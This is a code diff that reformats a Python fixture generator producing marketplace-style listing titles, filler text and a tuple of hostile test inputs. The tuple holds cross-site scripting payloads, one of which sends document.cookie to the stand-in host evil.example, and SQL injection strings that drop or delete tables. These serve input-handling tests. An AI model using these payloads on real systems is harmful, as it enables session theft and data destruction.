@@ -27,7 +27,7 @@ EMOJI = ("🔥", "💊", "🍁", "❄️", "🚀", "✅", "💯", "🌿", "⭐",
 
 HOSTILE = (
     "<script>alert(document.cookie)</script>",
-    '<img src=x onerror="fetch(\'http://evil.example/\'+document.cookie)">',
+    "<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">",
     "'); DROP TABLE users; --",
     "1' OR '1'='1",
     "Robert'); DELETE FROM orders WHERE ('1'='1",
@@ -87,7 +87,9 @@ def listing_title(rng: random.Random, product: str, unit: str, qty: int, flair: 
     if unit == "x":
         title = f"{qty}x {product}"
     else:
-        title = rng.choice((f"{qty}{unit} {product}", f"{product} - {qty} {unit}", f"{qty} G {product}"))
+        title = rng.choice(
+            (f"{qty}{unit} {product}", f"{product} - {qty} {unit}", f"{qty} G {product}")
+        )
         if unit != "g":
             title = f"{qty}{unit} {product}"
     if flair:
@@ -97,7 +99,18 @@ def listing_title(rng: random.Random, product: str, unit: str, qty: int, flair: 
 
 def long_text(rng: random.Random, length: int) -> str:
     """A very long text (a pasted terms-of-service or a spam wall)."""
-    words = ("lorem", "ipsum", "stealth", "quality", "ÜBER", "ñandú", "🚀", "vendor", "FE", "escrow")
+    words = (
+        "lorem",
+        "ipsum",
+        "stealth",
+        "quality",
+        "ÜBER",
+        "ñandú",
+        "🚀",
+        "vendor",
+        "FE",
+        "escrow",
+    )
     parts: list[str] = []
     size = 0
     while size < length:
